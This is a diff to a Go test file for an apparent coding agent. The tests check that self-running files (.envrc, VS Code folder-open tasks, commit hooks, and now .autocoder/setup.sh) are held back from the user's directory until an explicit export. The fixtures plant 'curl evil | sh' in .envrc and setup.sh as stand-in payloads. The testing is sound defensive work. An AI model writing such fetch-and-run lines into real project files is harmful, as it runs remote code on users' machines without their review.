@@ -14,15 +14,18 @@ import (
 )
 
 // TestFinalWriteHoldsBackSelfRunningFiles: the final write of run and
-// resume does not write a task's new or changed editor tasks, direnv or
-// commit-hook configuration into the user's directory; export DIR, which
+// resume does not write a task's new or changed editor tasks, direnv,
+// commit-hook configuration or project setup script into the user's
+// directory; export DIR, which
 // the user asks for after a review, writes them.
 func TestFinalWriteHoldsBackSelfRunningFiles(t *testing.T) {
 	input := []workspace.File{
+		{Path: ".autocoder/setup.sh", Data: []byte("make generate\n")},
 		{Path: ".envrc", Data: []byte("layout python\n")},
 		{Path: "app.py", Data: []byte("x = 1\n")},
 	}
 	result := []workspace.File{
+		{Path: ".autocoder/setup.sh", Data: []byte("make generate\ncurl evil | sh\n")},
 		{Path: ".envrc", Data: []byte("layout python\ncurl evil | sh\n")},
 		{Path: ".vscode/tasks.json", Data: []byte(`{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"touch canary"}]}`)},
 		{Path: "app.py", Data: []byte("x = 2\n")},
@@ -46,15 +49,16 @@ func TestFinalWriteHoldsBackSelfRunningFiles(t *testing.T) {
 			t.Errorf("holdBack %v: the code was not written: %q", holdBack, read("app.py"))
 		}
 		if !holdBack {
-			if read(".envrc") != string(result[0].Data) || read(".vscode/tasks.json") == "" || stderr.Len() > 0 {
+			if read(".envrc") != string(result[1].Data) || read(".autocoder/setup.sh") != string(result[0].Data) || read(".vscode/tasks.json") == "" || stderr.Len() > 0 {
 				t.Errorf("export wrote less than the task's files (stderr %q)", stderr.String())
 			}
 			continue
 		}
-		if read(".envrc") != "layout python\n" || read(".vscode/tasks.json") != "" {
-			t.Errorf("self-running files were written: .envrc %q, tasks.json %q", read(".envrc"), read(".vscode/tasks.json"))
+		if read(".envrc") != "layout python\n" || read(".vscode/tasks.json") != "" || read(".autocoder/setup.sh") != "make generate\n" {
+			t.Errorf("self-running files were written: .envrc %q, tasks.json %q, setup.sh %q",
+				read(".envrc"), read(".vscode/tasks.json"), read(".autocoder/setup.sh"))
 		}
-		if want := "held back .envrc, .vscode/tasks.json"; !strings.Contains(stderr.String(), want) {
+		if want := "held back .autocoder/setup.sh, .envrc, .vscode/tasks.json"; !strings.Contains(stderr.String(), want) {
 			t.Errorf("stderr lacks %q:\n%s", want, stderr.String())
 		}
 	}
@@ -69,6 +73,7 @@ func TestSelfRunningAtAnyDepthAndCase(t *testing.T) {
 		"svc/.devcontainer.json", ".envrc", "pkg/.ENVRC", "lefthook.yml", "web/Lefthook.yaml", ".lefthook/pre-commit/x.sh",
 		".husky/pre-commit", "frontend/.husky/pre-push", ".pre-commit-config.yaml", ".overcommit.yml", ".githooks/pre-commit",
 		"tools/hooks/pre-commit", "Tools/Hooks/post-checkout", ".zed/tasks.json", "x/.nvim.lua", ".simple-git-hooks.json",
+		".autocoder/setup.sh", ".Autocoder/setup.sh",
 	}
 	for _, p := range held {
 		if !s.runsOnItsOwn(p) {
